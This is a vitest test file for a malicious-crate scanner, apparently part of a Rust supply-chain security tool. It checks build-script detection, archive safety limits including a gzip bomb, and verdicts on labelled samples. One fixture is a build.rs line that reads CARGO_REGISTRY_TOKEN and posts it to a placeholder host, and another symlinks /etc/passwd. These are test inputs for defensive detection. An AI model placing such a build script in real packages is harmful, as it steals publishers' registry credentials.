import { mkdtempSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { SHARED_DATA } from '../../../test/support/paths.js';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';
import { CrateArchiveError, writeCrateArchive } from '../../formats/crate-archive.js';
import { manifest, testScanner } from '../../../test/fixtures/scanner/crates.js';
import { Scanner, ScannerError } from './scanner.js';
import { scanTogether } from './together.js';
import { atLeast } from './types.js';
import type { ScanReport } from './types.js';

const SAMPLES = join(SHARED_DATA, 'scanner-samples');
const tmp = mkdtempSync(join(tmpdir(), 'ck-scanner-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

const BAD_BUILD =
  'fn main() { let t = std::env::var("CARGO_REGISTRY_TOKEN").unwrap_or_default(); let _ = ureq::post("https://x.invalid/c").send_string(&t); }';

describe('Scanner', () => {
  it('scans .crate bytes through the safe archive reader', async () => {
    const bytes = await writeCrateArchive('evil-build-0.1.0', [
      { path: 'Cargo.toml', data: manifest('evil-build', { package: 'build = "build.rs"\n' }) },
      { path: 'build.rs', data: BAD_BUILD },
      { path: 'src/lib.rs', data: 'pub fn ok() {}' },
    ]);
    const r = await (await testScanner()).scanCrateBytes(bytes);
    expect(r.crate).toEqual({ name: 'evil-build', version: '0.1.0' });
    expect(r.verdict).toBe('critical');
    expect(r.findings[0]).toMatchObject({
      ruleId: 'build.exfiltration',
      file: 'build.rs',
      line: 1,
      context: 'build-script',
    });
    expect(r.capabilities).toEqual(
      expect.arrayContaining(['build-script:network', 'build-script:secret-env']),
    );
    expect(r.stats).toMatchObject({ files: 3, rustFiles: 2 });
    expect(r.stats.bytes).toBeGreaterThan(0);
  });

  it("refuses malformed, truncated and hostile archives with the reader's error", async () => {
    const s = await testScanner();
    const good = await writeCrateArchive('ok-0.1.0', [
      { path: 'Cargo.toml', data: manifest('ok') },
      { path: 'src/lib.rs', data: '' },
    ]);
    await expect(s.scanCrateBytes(Buffer.from('not a crate'))).rejects.toBeInstanceOf(CrateArchiveError);
    await expect(s.scanCrateBytes(good.subarray(0, good.length - 20))).rejects.toBeInstanceOf(
      CrateArchiveError,
    );
    await expect(s.scanCrateBytes(Buffer.alloc(0))).rejects.toBeInstanceOf(CrateArchiveError);
    // A gzip bomb: far more than the configured unpacked limit.
    const small = await Scanner.create({ archiveLimits: { maxUnpackedBytes: 64 * 1024 } });
    await expect(small.scanCrateBytes(gzipSync(Buffer.alloc(4 * 1024 * 1024)))).rejects.toMatchObject({
      code: 'too-large',
    });
  });

  it('scans a source directory, skipping target/ and symlinks', async () => {
    const dir = join(tmp, 'crate');
    mkdirSync(join(dir, 'src'), { recursive: true });
    mkdirSync(join(dir, 'target'), { recursive: true });
    writeFileSync(join(dir, 'Cargo.toml'), manifest('dir-crate', { package: 'build = "build.rs"\n' }));
    writeFileSync(join(dir, 'build.rs'), BAD_BUILD);
    writeFileSync(join(dir, 'src/lib.rs'), '');
    writeFileSync(
      join(dir, 'target/huge.rs'),
      'fn x() { std::process::Command::new("sh").arg("-c").arg("x"); }',
    );
    symlinkSync('/etc/passwd', join(dir, 'src/link.rs'));
    const r = await (await testScanner()).scanDirectory(dir);
    expect(r.crate.name).toBe('dir-crate');
    expect(r.verdict).toBe('critical');
    expect(r.stats.files).toBe(3);
    await expect((await testScanner()).scanDirectory(join(dir, 'src'))).rejects.toBeInstanceOf(ScannerError);
    const tiny = await Scanner.create({ directoryLimits: { maxFiles: 1 } });
    await expect(tiny.scanDirectory(dir)).rejects.toThrow(/more than 1 files/);
  });

  it('rejects unknown rule ids and leaves disabled rules out', async () => {
    await expect(Scanner.create({ rules: { disable: ['no.such'] } })).rejects.toBeInstanceOf(ScannerError);
    const s = await Scanner.create({ rules: { disable: ['build.exfiltration'] } });
    const r = s.scanSource({
      prefix: null,
      files: [
        {
          path: 'Cargo.toml',
          size: 1,
          data: Buffer.from(manifest('d', { package: 'build = "build.rs"\n' })),
        },
        { path: 'build.rs', size: 1, data: Buffer.from(BAD_BUILD) },
      ],
    });
    expect(r.findings.some((f) => f.ruleId === 'build.exfiltration')).toBe(false);
    expect(r.findings.some((f) => f.ruleId === 'build.network')).toBe(true);
  });

  it('catches every malicious training sample at high+ (wrappers together) and no benign one', async () => {
    const labels = JSON.parse(readFileSync(join(SAMPLES, 'labels.json'), 'utf8')) as {
      dir: string;
      malicious: boolean;
    }[];
    const s = await testScanner();
    const reports: ScanReport[] = [];
    for (const l of labels)
      reports.push(await s.scanCrateBytes(readFileSync(join(SAMPLES, 'crates', `${l.dir}.crate`))));
    const together = scanTogether(reports);
    labels.forEach((l, i) => {
      const v = together[i]!.verdict;
      expect(v !== 'clean' && atLeast(v, 'high'), `${l.dir}: ${v}`).toBe(l.malicious);
    });
    // Alone, the wrappers look clean: only the dependency makes them malicious.
    const alone = Object.fromEntries(labels.map((l, i) => [l.dir, reports[i]!.verdict]));
    expect(alone['uniswap-v2-mathutils-0.2.0']).toBe('clean');
    expect(alone['slice-arrayref-0.3.10']).toBe('clean');
  });
});
